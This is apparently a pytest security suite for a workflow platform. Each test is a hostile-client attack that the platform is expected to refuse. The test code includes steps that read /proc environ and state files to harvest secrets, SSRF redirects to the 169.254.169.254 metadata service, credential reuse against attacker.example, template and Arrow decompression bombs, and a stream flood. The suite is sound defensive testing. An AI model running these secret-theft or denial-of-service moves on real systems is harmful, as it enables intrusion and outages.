"""A hostile client against the real stack: every attack is refused and nothing else is disturbed.

Each test is one attack of docs/security.md's threat model, through the same routes a caller
would use. A sampler polls ``/healthz`` every 100 ms for the whole module; the last test
checks that it always answered within a second and that the outbox drained, so a refused
attack that froze or wedged a service still fails the module.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import psycopg
import pytest
from noetl_cli import Api
from noetl_dev import Stack
from noetl_dev.testing import wait_until
from psycopg.rows import dict_row

BOMB = "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}"
Conn = psycopg.Connection[dict[str, Any]]


#: The sampler runs in a process of its own: in this one, the load the attacks generate
#: (thousands of streams on one event loop) would delay the sampler's own clock reads
#: and charge the test's slowness to the API.
SAMPLER = """
import json, sys, threading, time
import httpx
url, done, samples, slowest, failures = sys.argv[1], threading.Event(), 0, 0.0, []
threading.Thread(target=lambda: (sys.stdin.read(), done.set()), daemon=True).start()
with httpx.Client(timeout=1.0) as http:
    while not done.wait(0.1):
        started = time.monotonic()
        try:
            reply = http.get(url + "/healthz")
            if reply.status_code != 200:
                failures.append(f"HTTP {reply.status_code}")
        except httpx.HTTPError as exc:
            failures.append(f"{type(exc).__name__} after {time.monotonic() - started:.2f}s")
        slowest = max(slowest, time.monotonic() - started)
        samples += 1
print(json.dumps({"samples": samples, "slowest": slowest, "failures": failures}))
"""


class HealthSampler:
    """Polls ``/healthz`` every 100 ms from a process of its own; keeps the slowest answer and
    the failures (read after :meth:`stop`)."""

    def __init__(self, url: str) -> None:
        self.samples = 0
        self.slowest = 0.0
        self.failures: list[str] = []
        self._proc = subprocess.Popen(
            [sys.executable, "-c", SAMPLER, url], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        )

    def stop(self) -> None:
        if self._proc.returncode is not None:
            return
        out, _ = self._proc.communicate("", timeout=30)
        found = json.loads(out)
        self.samples, self.slowest, self.failures = found["samples"], found["slowest"], found["failures"]


@pytest.fixture(scope="module")
def sampler(stack: Stack) -> Iterator[HealthSampler]:
    running = HealthSampler(stack.api_url)
    yield running
    running.stop()


@pytest.fixture(scope="module")
def roles(stack: Stack, api: Api, sampler: HealthSampler) -> dict[str, dict[str, str]]:
    """A token of each human role and an extra shared-pool worker token, minted by the admin."""
    minted = {}
    for name, role, pool in (
        ("hostile-viewer", "viewer", None),
        ("hostile-operator", "operator", None),
        ("hostile-developer", "developer", None),
        ("hostile-intruder", "worker", "shared"),
    ):
        minted[role] = {"authorization": f"Bearer {api.create_token(name, role, pool)['token']}"}
    return minted


@pytest.fixture
def db(stack: Stack) -> Iterator[Conn]:
    assert stack.database_url is not None
    with psycopg.connect(stack.database_url, autocommit=True, row_factory=dict_row) as conn:
        yield conn


def _playbook(path: str, steps: str, workload: str = "{}") -> str:
    return (
        f"apiVersion: noetl.io/v2\nkind: Playbook\nmetadata: {{name: {path.replace('/', '_')}, path: {path}}}\n"
        f"workload: {workload}\nworkflow:\n{steps}"
    )


def _run_as(stack: Stack, headers: dict[str, str], content: str, path: str, payload: Any = None) -> dict[str, Any]:
    """Register (as ``headers``), execute and wait; the final execution view."""
    with httpx.Client(base_url=stack.api_url, headers=headers, timeout=30) as http:
        registered = http.post("/api/catalog/register", json={"content": content})
        assert registered.status_code == 201, registered.text
        started = http.post("/api/execute", json={"path": path, "payload": payload or {}})
        assert started.status_code == 201, started.text
    with Api(stack.api_url, token=stack.token) as api:
        return api.wait(started.json()["execution_id"], timeout=90)


def _leaked(stack: Stack, text: str) -> list[str]:
    return [variable for variable, token in stack.tokens.items() if token in text]


# -- the attacks of the issue -----------------------------------------------------------------


def test_no_route_answers_a_caller_without_credentials(stack: Stack, sampler: HealthSampler) -> None:
    for method, path, body in (
        ("POST", "/api/catalog/register", {"content": _playbook("system/steal", "")}),
        ("POST", "/api/execute", {"path": "system/steal"}),
        ("GET", "/api/catalog/list", None),
        ("POST", "/api/credentials", {"name": "x", "data": {}}),
        ("GET", "/api/keychain", None),
        ("POST", "/api/events", {"events": []}),
        ("POST", "/api/commands/1/claim", {"worker_id": "w"}),
        ("PUT", "/api/result/1", {"a": 1}),
        ("POST", "/api/worker/pool/register", {"worker_id": "w", "pool": "system", "capacity": 1}),
        ("POST", "/api/internal/credentials/resolve", {"names": ["x"]}),
        ("POST", "/api/internal/cleanup/purge", {}),
        ("POST", "/api/internal/plugins/system/echo", {}),
        ("GET", "/api/tokens", None),
    ):
        for headers in ({}, {"authorization": "Bearer noetl_" + "A" * 43}, {"authorization": "Basic YTpi"}):
            reply = httpx.request(method, f"{stack.api_url}{path}", json=body, headers=headers, timeout=10)
            assert reply.status_code == 401, (method, path, reply.text)
            assert _leaked(stack, reply.text) == []


def test_a_python_step_reaches_none_of_the_suites_secrets(
    stack: Stack, roles: dict[str, dict[str, str]], db: Conn
) -> None:
    code = """
import os
def main(worker_pid, state_dir):
    seen = {"env": dict(os.environ)}
    for path in ("/proc/1/environ", f"/proc/{worker_pid}/environ", f"/proc/{worker_pid}/cmdline",
                 f"{state_dir}/stack.json"):
        try:
            with open(path, "rb") as f:
                seen[path] = f.read().decode("latin-1")
        except Exception as exc:
            seen[path] = "refused: " + type(exc).__name__
    for path in ("/proc/1/environ", f"{state_dir}/logs/worker-shared.log", f"{state_dir}/planted"):
        try:
            with open(path, "a") as f:
                f.write("planted")
            seen["wrote " + path] = True
        except Exception as exc:
            seen["wrote " + path] = "refused: " + type(exc).__name__
    return seen
"""
    steps = (
        "  - step: start\n    tool: {kind: python, code: " + json.dumps(code) + "}\n"
        '    args: {worker_pid: "{{ worker_pid }}", state_dir: "{{ state_dir }}"}\n'
    )
    payload = {"worker_pid": stack.services["worker-shared"].pid, "state_dir": str(stack.state_dir)}
    content = _playbook("hostile/steal", steps, workload="{worker_pid: 0, state_dir: ''}")
    final = _run_as(stack, roles["developer"], content, "hostile/steal", payload)
    assert final["status"] == "COMPLETED", final.get("error")
    seen = final["results"]["start"]
    assert not [name for name in seen["env"] if name.startswith(("NOETL_", "NATS_", "WORKER_"))], seen["env"]
    assert _leaked(stack, json.dumps(seen)) == []
    assert all(str(seen[f"wrote {p}"]).startswith("refused") for p in (
        "/proc/1/environ", f"{stack.state_dir}/logs/worker-shared.log", f"{stack.state_dir}/planted"
    )), seen
    assert not (stack.state_dir / "planted").exists()
    # nor in anything recorded about it
    assert _leaked(stack, str(db.execute("SELECT context FROM noetl.event").fetchall())) == []


def test_a_python_step_cannot_walk_into_the_suites_database_or_streams(
    stack: Stack, roles: dict[str, dict[str, str]]
) -> None:
    """Both listen on loopback, where a task's process can connect: neither lets it in without
    the login only the control-api (Postgres) and the services (NATS) hold."""
    code = """
import socket
import psycopg
def main(pg_port, nats_port):
    seen = {}
    try:
        psycopg.connect(f"postgresql://postgres@127.0.0.1:{pg_port}/noetl", connect_timeout=5).close()
        seen["postgres"] = "connected"
    except Exception as exc:
        seen["postgres"] = "refused: " + str(exc).splitlines()[0]
    with socket.create_connection(("127.0.0.1", nats_port), timeout=5) as conn:
        conn.recv(4096)  # INFO
        conn.sendall(b'CONNECT {"verbose":false}\\r\\nPUB noetl.events.x 2\\r\\nhi\\r\\nPING\\r\\n')
        seen["nats"] = conn.recv(4096).decode()
    return seen
"""
    assert stack.admin_url is not None and stack.nats_url is not None
    ports = {
        "pg_port": int(stack.admin_url.rsplit(":", 1)[1].split("/")[0]),
        "nats_port": int(stack.nats_url.rsplit(":", 1)[1]),
    }
    steps = (
        "  - step: start\n    tool: {kind: python, code: " + json.dumps(code) + "}\n"
        '    args: {pg_port: "{{ pg_port }}", nats_port: "{{ nats_port }}"}\n'
    )
    content = _playbook("hostile/walk_in", steps, workload="{pg_port: 0, nats_port: 0}")
    final = _run_as(stack, roles["developer"], content, "hostile/walk_in", ports)
    assert final["status"] == "COMPLETED", final.get("error")
    seen = final["results"]["start"]
    assert seen["postgres"].startswith("refused") and "password" in seen["postgres"], seen
    assert "Authorization Violation" in seen["nats"], seen


def test_roles_are_kept_to_their_namespaces(stack: Stack, roles: dict[str, dict[str, str]]) -> None:
    system = {"content": _playbook("system/steal", "  - step: start\n    tool: {kind: noop}\n")}
    user = {"content": _playbook("hostile/own", "  - step: start\n    tool: {kind: noop}\n")}
    with httpx.Client(base_url=stack.api_url, timeout=10) as http:
        assert http.post("/api/catalog/register", json=user, headers=roles["viewer"]).status_code == 403
        refused = http.post("/api/catalog/register", json=system, headers=roles["operator"])
        assert refused.status_code == 403 and refused.json()["error"] == "forbidden"
        assert http.post("/api/catalog/register", json=system, headers=roles["developer"]).status_code == 403
        publish = http.post(
            "/api/internal/plugins/system/echo", content=b"\0asm\1\0\0\0", headers=roles["developer"]
        )
        assert publish.status_code == 403
        assert http.post("/api/tokens", json={"name": "x", "role": "admin"}, headers=roles["developer"]).status_code == 403
        assert http.post("/api/execute", json={"path": "system/echo"}, headers=roles["operator"]).status_code == 403
        steal = http.post("/api/catalog/resource", json={"path": "system/steal"}, headers=roles["viewer"])
        assert steal.status_code == 404  # never registered


def test_a_forged_completion_from_a_token_without_the_lease_is_refused(
    stack: Stack, roles: dict[str, dict[str, str]], db: Conn
) -> None:
    steps = (
        "  - step: start\n    tool: {kind: python, code: \"import time\\ntime.sleep(3)\\nresult = 'genuine'\"}\n"
    )
    with httpx.Client(base_url=stack.api_url, headers=stack.auth(), timeout=30) as http:
        assert http.post("/api/catalog/register", json={"content": _playbook("hostile/slow", steps)}).status_code == 201
        execution_id = http.post("/api/execute", json={"path": "hostile/slow"}).json()["execution_id"]
    command = wait_until(
        lambda: db.execute(
            "SELECT command_id, attempt, step FROM noetl.command WHERE execution_id = %s AND status = 'CLAIMED'",
            (execution_id,),
        ).fetchone(),
        30,
        "the worker to claim the command",
    )
    forged = {
        "execution_id": execution_id,
        "event_type": "command.completed",
        "step": command["step"],
        "meta": {"command_id": command["command_id"], "attempt": command["attempt"]},
        "context": {"result": "forged"},
    }
    for headers in (roles["worker"], roles["developer"], stack.auth("NOETL_WORKER_TOKEN_SYSTEM")):
        reply = httpx.post(f"{stack.api_url}/api/events", json=forged, headers=headers, timeout=10)
        assert reply.status_code == 403, reply.text
    with Api(stack.api_url, token=stack.token) as api:
        final = api.wait(execution_id, timeout=60)
    assert final["status"] == "COMPLETED" and final["results"]["start"] == "genuine"


def test_a_payload_and_a_body_too_big_are_refused_at_the_door(stack: Stack, roles: dict[str, dict[str, str]]) -> None:
    with httpx.Client(base_url=stack.api_url, headers=roles["operator"], timeout=60) as http:
        big = http.post("/api/execute", json={"path": "examples/hello", "payload": {"blob": "x" * (2 * 1024 * 1024)}})
        assert big.status_code == 413 and big.json()["error"] == "payload_too_large", big.text
        huge = http.post(
            "/api/catalog/register",
            content=b"x" * (50 * 1024 * 1024),
            headers={**roles["developer"], "content-type": "application/yaml"},
        )
        assert huge.status_code == 413


@pytest.mark.parametrize(
    ("path", "steps", "where"),
    [
        (
            "hostile/bomb_arc",
            f"  - step: start\n    tool: {{kind: noop}}\n    next:\n      spec: {{mode: exclusive}}\n"
            f"      arcs: [{{step: end, when: {json.dumps(BOMB)}}}]\n  - step: end\n    tool: {{kind: noop}}\n",
            "next[0].when",
        ),
        (
            "hostile/bomb_args",
            f"  - step: start\n    tool: {{kind: noop}}\n    args: {{x: {json.dumps(BOMB)}}}\n",
            "args",
        ),
        (
            "hostile/bomb_task",
            f"  - step: start\n    tool: {{kind: http, url: {json.dumps('http://127.0.0.1:9/' + BOMB)}}}\n",
            "config.url",
        ),
    ],
)
def test_template_bombs_fail_their_step_and_freeze_nothing(
    stack: Stack, roles: dict[str, dict[str, str]], path: str, steps: str, where: str
) -> None:
    final = _run_as(stack, roles["developer"], _playbook(path, steps), path)
    assert final["status"] == "FAILED"
    assert "start" in final["error"] and where in final["error"]
    assert "NOETL_TEMPLATE_MAX_ITERATIONS" in final["error"]


class _Redirect(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(302)
        self.send_header("location", "http://169.254.169.254/latest/meta-data/")
        self.end_headers()

    def log_message(self, *_args: Any) -> None:
        pass


def test_http_steps_cannot_reach_the_metadata_service(stack: Stack, roles: dict[str, dict[str, str]]) -> None:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Redirect)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        for path, url in (
            ("hostile/metadata", "http://169.254.169.254/latest/meta-data/"),
            ("hostile/metadata_mapped", "http://[::ffff:169.254.169.254]/"),
            ("hostile/metadata_redirect", f"http://127.0.0.1:{server.server_port}/"),
        ):
            steps = f"  - step: start\n    tool: {{kind: http, url: {json.dumps(url)}}}\n"
            final = _run_as(stack, roles["developer"], _playbook(path, steps), path)
            assert final["status"] == "FAILED" and "EgressRefused" in final["error"], (url, final["error"])
    finally:
        server.shutdown()


def test_credentials_serve_only_their_paths_and_their_server(stack: Stack, roles: dict[str, dict[str, str]]) -> None:
    with httpx.Client(base_url=stack.api_url, headers=roles["developer"], timeout=30) as http:
        made = http.post(
            "/api/credentials",
            json={
                "name": "hostile_pg",
                "credential_type": "postgres",
                "data": {"db_host": "127.0.0.1", "db_user": "u", "db_password": "p4ssw0rd-x", "db_name": "d"},
                "allowed_paths": ["hostile/allowed"],
            },
        )
        assert made.status_code == 201, made.text
    use = "  - step: start\n    tool: {kind: secrets, credential: hostile_pg}\n"
    other = _run_as(stack, roles["developer"], _playbook("hostile/other", use), "hostile/other")
    assert other["status"] == "FAILED" and "may not be used by playbook 'hostile/other'" in other["error"]
    redirect = (
        "  - step: start\n    tool: {kind: postgres, auth: hostile_pg, host: attacker.example, query: 'select 1'}\n"
    )
    moved = _run_as(stack, roles["developer"], _playbook("hostile/allowed", redirect), "hostile/allowed")
    assert moved["status"] == "FAILED" and "host" in moved["error"]


def test_an_arrow_bomb_from_a_step_is_refused_before_it_is_decoded(
    stack: Stack, roles: dict[str, dict[str, str]]
) -> None:
    code = (
        "import pyarrow as pa\n"
        "result = pa.table({'d': pa.DictionaryArray.from_arrays("
        "pa.array([0] * 400_000, pa.int32()), pa.array(['v' * 1024]))})\n"
    )
    steps = "  - step: start\n    tool: {kind: python, code: " + json.dumps(code) + "}\n"
    final = _run_as(stack, roles["developer"], _playbook("hostile/arrow_bomb", steps), "hostile/arrow_bomb")
    assert final["status"] == "FAILED" and "NOETL_ARROW_MAX_DECODED_BYTES" in final["error"], final["error"]


def test_two_thousand_event_streams_are_capped_and_the_api_keeps_answering(
    stack: Stack, roles: dict[str, dict[str, str]]
) -> None:
    """One viewer opens 2,000 streams of a running execution: it keeps its quota of them, every
    other attempt gets 429 at once, and the API answers everyone else meanwhile."""
    steps = '  - step: start\n    tool: {kind: python, code: "import time\\ntime.sleep(60)"}\n'
    with Api(stack.api_url, token=stack.token) as api:
        api.register(_playbook("hostile/long", steps))
        execution_id = api.execute("hostile/long")["execution_id"]
    url = f"{stack.api_url}/api/executions/{execution_id}/stream"

    async def storm() -> tuple[list[int], list[int], int]:
        limits = httpx.Limits(max_connections=None, max_keepalive_connections=0)
        async with (
            httpx.AsyncClient(headers=roles["viewer"], timeout=30, limits=limits) as http,
            contextlib.AsyncExitStack() as held,
        ):
            kept = [(await held.enter_async_context(http.stream("GET", url))).status_code for _ in range(20)]
            gate = asyncio.Semaphore(200)

            async def attempt() -> int:
                async with gate, http.stream("GET", url) as reply:
                    return reply.status_code

            rest = await asyncio.gather(*(attempt() for _ in range(1980)))
            other = await http.get(f"{stack.api_url}/api/catalog/list", headers=roles["developer"])
            return kept, list(rest), other.status_code

    kept, rest, other = asyncio.run(storm())
    with Api(stack.api_url, token=stack.token) as api:
        api.cancel(execution_id)
    assert kept == [200] * 20
    assert rest == [429] * 1980
    assert other == 200


def test_zz_the_api_answered_throughout_and_the_outbox_drained(stack: Stack, sampler: HealthSampler) -> None:
    with httpx.Client(base_url=stack.api_url, headers=stack.auth(), timeout=10) as http:
        wait_until(
            lambda: http.get("/api/internal/outbox/pending-count").json()["pending"] == 0,
            60,
            "the outbox to drain",
        )
    sampler.stop()
    print(f"healthz: {sampler.samples} samples, slowest {sampler.slowest * 1000:.0f} ms, failures {sampler.failures}")
    assert sampler.samples > 10
    assert sampler.failures == [] and sampler.slowest < 1.0, (sampler.failures, sampler.slowest)
    logs = "".join(p.read_text(errors="replace") for p in (stack.state_dir / "logs").glob("*.log"))
    assert _leaked(stack, logs) == [], "a token in a log line"
    assert base64.b64encode(stack.token.encode()).decode() not in logs
